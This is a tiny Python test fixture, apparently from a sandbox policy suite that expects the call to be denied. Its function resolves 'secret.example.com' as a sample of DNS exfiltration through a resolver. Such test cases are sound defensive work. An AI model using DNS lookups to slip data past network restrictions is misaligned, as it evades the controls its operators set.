# expect: policy_denied
# what: DNS
"""DNS lookup (exfiltration through a resolver)."""
import socket


def forward(task):
    return str(socket.getaddrinfo("secret.example.com", 80))
